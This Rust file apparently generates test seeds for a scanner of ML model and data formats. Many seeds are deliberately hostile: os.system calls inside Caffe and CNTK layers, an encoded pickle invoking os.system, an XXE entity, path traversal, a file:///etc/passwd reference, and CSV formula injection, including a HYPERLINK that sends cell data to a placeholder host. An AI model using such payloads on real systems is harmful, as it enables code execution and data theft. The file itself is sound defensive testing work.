//! Seeds of the formats that hold graphs.

use weighhouse_formats::build::coreml;
use weighhouse_formats::build::executorch;
use weighhouse_formats::build::flatbuffer::Table;
use weighhouse_formats::build::ort;
use weighhouse_formats::build::paddle;
use weighhouse_formats::build::protobuf::Proto;
use weighhouse_formats::build::tflite;
use weighhouse_formats::build::torch;
use weighhouse_formats::build::{caffe, caffe2, cntk};

use crate::{Seed, TEXT, fixtures, named, numbered};

pub(crate) fn coreml() -> Vec<Seed> {
    let mut seeds = fixtures("fixtures/coreml", |name| name.ends_with(".mlmodel"));
    let class = Proto::new().text(10, "Layer");
    seeds.extend(named([
        ("custom", coreml::network(500, &class).build()),
        ("pipeline", coreml::model(202, &Proto::new().message(1, &coreml::model(555, &class))).build()),
        (
            "program",
            coreml::program(&[coreml::constant("@model_path/w.bin", 64), coreml::operation("relu")]).build(),
        ),
        ("unknown", coreml::network(130, &Proto::new()).bytes(999, TEXT).build()),
        ("weights", coreml::weights(&[(2, &[1; 8]), (4, TEXT)])),
    ]));
    seeds
}

pub(crate) fn tflite() -> Vec<Seed> {
    let mut seeds = fixtures("fixtures/tflite", |name| name.ends_with(".tflite"));
    let flex = tflite::operator().bytes(5, &tflite::flex("Relu", "PyFunc"));
    let data = Table::new().number(1, 400).number(2, 16);
    seeds.extend(named([
        ("flex", tflite::file(&tflite::one(tflite::custom("FlexRelu"), flex))),
        (
            "behind",
            tflite::file(&tflite::model(vec![tflite::builtin(150)], vec![tflite::operator()], vec![data])),
        ),
        ("notes", tflite::file(&tflite::model(vec![], vec![], vec![Table::new().bytes(0, TEXT)]))),
    ]));
    seeds
}

/// Sources, and bytecode in the spellings of both protocols.
pub(crate) fn torchscript() -> Vec<Seed> {
    let method = |name: &str, body: &str| {
        format!(
            "class M(Module):\n  __parameters__ = []\n  training : bool\n  def {name}(self: __torch__.M,\n    x: Tensor) -> Tensor:\n{body}"
        )
    };
    let sources = [
        method(
            "forward",
            "    _0 = torch.add(torch.mul(x, CONSTANTS.c0), annotate(List[int], []))\n    return torch.relu(_0)\n",
        ),
        method(
            "forward",
            "    torch.save(x, \"/x\")\n    _0 = ops.image.read_file(\"/y\")\n    return ops.x.y(x)\n",
        ),
        method(
            "__setstate__",
            "    while True:\n      pass\n    return torch.zeros([1000000, 1000000, 1000])\n",
        ),
        method(
            "forward",
            "    for _ in range(9223372036854775807):\n      x = __torch__.torch.classes.a.B(x)\n    return x\n",
        ),
    ];
    let mut seeds: Vec<Seed> =
        sources.into_iter().enumerate().map(|(at, text)| (format!("{at:02}"), text.into_bytes())).collect();
    seeds.extend(named([
        ("bytecode", torch::bytecode(&["aten::add.Tensor", "aten::save", "image::read_file"])),
        ("bytecode-4", [b"\x80\x04(".as_slice(), b"\x8c\x0aaten::save", b"\x8c\x00\x86t."].concat()),
        ("bytecode-0", b"(Vaten::from_file\nS'rpc::x.y'\nt.".to_vec()),
    ]));
    seeds
}

pub(crate) fn caffe() -> Vec<Seed> {
    let mut seeds = fixtures("fixtures/caffe", |name| name.ends_with(".caffemodel"));
    let output = caffe::layer("a", "HDF5Output").message(113, &Proto::new().text(1, "../x"));
    seeds.extend(named([
        ("python", caffe::network(&[caffe::python("os", "system"), output]).build()),
        ("number", Proto::new().message(2, &Proto::new().text(4, "a").int(5, 10)).build()),
        (
            "numbers",
            caffe::network(&[caffe::layer("a", "ReLU").message(7, &caffe::blob(&[2, 3], 5))]).build(),
        ),
    ]));
    seeds
}

pub(crate) fn caffe2() -> Vec<Seed> {
    let mut seeds = fixtures("fixtures/caffe2", |name| name.contains("net.pb"));
    let load = caffe2::operator("Load", &[caffe2::bytes("db", b"../x")]);
    let branch = caffe2::operator("If", &[caffe2::inner("then_net", &caffe2::net(&[load]))]);
    seeds.extend(named([
        ("inner", caffe2::net(&[branch]).build()),
        ("fill", caffe2::net(&[caffe2::fill(&[2], 3)]).build()),
    ]));
    seeds
}

pub(crate) fn cntk() -> Vec<Seed> {
    let mut seeds = fixtures("fixtures/cntk", |name| name.starts_with("hostile") || name == "dense.model");
    seeds.extend(named([
        ("python", cntk::model(&[cntk::operation(3), cntk::python("os", "system")]).build()),
        ("native", cntk::model(&[cntk::native("x.so", "f")]).build()),
        ("array", cntk::dictionary(&[("version", cntk::array(&[2, 3], 5))]).build()),
    ]));
    seeds
}

pub(crate) fn paddle() -> Vec<Seed> {
    let small = ["branch.pdmodel", "levels.pdiparams", "net.pdiparams", "pir.json"];
    let mut seeds = fixtures("fixtures/paddle", |name| small.contains(&name));
    let load = paddle::operator("load_combine").text("file_path", "../x");
    let root = paddle::block(0, u64::MAX, &[paddle::operator("while").runs(1)]);
    let levels: Vec<u8> = [0_u64, 1, 2].iter().flat_map(|at| at.to_le_bytes()).collect();
    seeds.extend(named([
        ("blocks", paddle::program(&[root, paddle::block(1, 0, &[load])]).build()),
        ("levels", paddle::tensor(&[&levels], 5, &[2], &[0; 8])),
        ("text", paddle::tensor(&[], 20, &[TEXT.len() as u64], TEXT)),
        ("new", paddle::pir(&[&paddle::pir_operator("1.load_combine", "file_path", "../x")]).into_bytes()),
    ]));
    seeds
}

pub(crate) fn ort() -> Vec<Seed> {
    let mut seeds = fixtures("fixtures/ort", |name| name.contains(".ort"));
    let record = Table::new().texts(3, &["com.microsoft:FusedConv:1"]);
    let records = Table::new().tables(0, vec![Table::new().tables(1, vec![record])]);
    let edge = Table::new().number(0, 0).numbers(1, &[0, 0, 0]);
    let nodes = vec![ort::node("com.example", "Relu", 0)];
    seeds.extend(named([
        ("optimised", ort::file(&ort::model(ort::graph(vec![], vec![]).table(8, records)))),
        ("edges", ort::file(&ort::model(ort::graph(nodes, vec![]).tables(4, vec![edge])))),
        ("weights", ort::file(&ort::model(ort::graph(vec![], vec![ort::tensor("w", 2, &[4], TEXT)])))),
    ]));
    seeds
}

pub(crate) fn executorch() -> Vec<Seed> {
    let ours = |name: &str| [".pte", ".ptd", ".bpte"].iter().any(|ending| name.ends_with(ending));
    let mut seeds = fixtures("fixtures/executorch", ours);
    let named = executorch::plain().tables(7, vec![Table::new().text(0, "w")]);
    let delegate = executorch::delegate("XnnpackBackend", 0);
    seeds.extend(self::named([
        ("plain", executorch::bare(&executorch::plain())),
        ("named", executorch::file(&named, &[TEXT.to_vec()])),
        (
            "delegate",
            executorch::file(&executorch::program(&[], vec![], vec![delegate], vec![]), &[TEXT.to_vec()]),
        ),
    ]));
    seeds
}

pub(crate) fn sentencepiece() -> Vec<Seed> {
    let mut seeds = fixtures("fixtures/sentencepiece", |name| name != "generate.py");
    let piece = |text: &[u8]| Proto::new().message(1, &Proto::new().bytes(1, text).tag(2, 5).raw(&[0; 4]));
    let normaliser = |map: &[u8]| Proto::new().message(3, &Proto::new().bytes(2, map));
    let sample = Proto::new().message(1, &Proto::new().text(1, "a").text(2, "b"));
    seeds.extend(named([
        ("piece", piece(TEXT).build()),
        ("map", normaliser(b"\x04\0\0\0\x01\x02\x03\x04a\0b\0").build()),
        ("broken-map", normaliser(b"\xff\xff\xff\xff").build()),
        ("self-test", Proto::new().message(4, &sample).bytes(200, TEXT).build()),
    ]));
    seeds
}

pub(crate) fn xml() -> Vec<Seed> {
    let mut seeds = fixtures("fixtures/pmml", |_| true);
    seeds.extend(fixtures("fixtures/openvino", |name| name == "branches.xml"));
    let texts = [
        "<?xml version='1.0'?><!DOCTYPE a PUBLIC 'p' 'http://e/x' [<!ENTITY b 'c'><!ENTITY % d SYSTEM 'file:///f'>%d;]><a>&b;</a>",
        "<net version='11'><layer type='Const'><data offset='0' size='4' x='a.so'/></layer></net>",
        "<PMML><Extension name='script'>java.lang.Runtime</Extension><Apply function='a.B'/><TableLocator x='y'/></PMML>",
        "<xsl:stylesheet xmlns:xsl='x'><msxsl:script>y</msxsl:script><xsl:include href='../z'/></xsl:stylesheet>",
        "<a><![CDATA[Y29zCnN5c3RlbQooUydlY2hvIGluZXJ0Jwp0Ui4=]]><!-- x --><?y z?>&#x41;&amp;</a>",
        "<CustomLayer><Kernel><Source filename='x.cl'/></Kernel></CustomLayer>",
    ];
    seeds.extend(texts.iter().enumerate().map(|(at, text)| (format!("{at:02}"), text.as_bytes().to_vec())));
    let wide = "<?xml version='1.0'?><a/>".encode_utf16().flat_map(u16::to_be_bytes).collect();
    seeds.push(("wide".to_owned(), wide));
    seeds
}

/// Tables, records, descriptions of arrays and references.
pub(crate) fn data() -> Vec<Seed> {
    let written = fixtures("fixtures/tables", |_| true)
        .into_iter()
        .chain(fixtures("fixtures/arrays", |name| !name.starts_with("shard")));
    let records = weighhouse_formats::build::tfrecord::file(&[b"", b"one", b"\x80\x04N."]);
    written.chain(numbered(DATA)).chain([("records".to_owned(), records)]).collect()
}

const DATA: &[&str] = &[
    "a,b\n=cmd|'/C calc'!A0,\"=HYPERLINK(\"\"http://x/?\"\"&A1)\"\n-1,'x\n",
    "a;b\n@SUM(1)*x|'y'!z;='\\\\h\\s\\[x]y'!A1\n",
    "{\"a\": 1}\n\n[2]\nbroken\n{\"_target_\": \"os.system\"}\n{\"chat_template\": \"{% if x %}\"}",
    r#"{"zarr_format": 2, "shape": [6, 4], "chunks": [3, 2], "dtype": "|O", "compressor": {"id": "blosc"}, "filters": [{"id": "pickle"}], "dimension_separator": "/"}"#,
    r#"{"zarr_format": 3, "node_type": "array", "shape": [8], "data_type": "int16", "chunk_grid": {"name": "regular", "configuration": {"chunk_shape": [4]}}, "chunk_key_encoding": {"name": "default", "configuration": {"separator": "/"}}, "codecs": [{"name": "sharding_indexed", "configuration": {"codecs": [{"name": "bytes"}], "index_codecs": [{"name": "crc32c"}]}}], "storage_transformers": []}"#,
    r#"{"zarr_consolidated_format": 1, "metadata": {"a/.zarray": {"zarr_format": 2, "shape": [], "chunks": []}}}"#,
    r#"{"version": 1, "templates": {"u": "s3://b"}, "gen": [{"key": "k", "url": "{{u}}/x", "dimensions": {"i": {"stop": 2}}}], "refs": {"x/.zarray": "{\"zarr_format\":2,\"shape\":[2],\"chunks\":[1]}", "x/0": ["{{u}}", 0, 1], "x/1": "base64:AAAA"}}"#,
    r#"{".zgroup": "{\"zarr_format\":2}", "x/0": ["file:///etc/passwd", 0, 1]}"#,
];
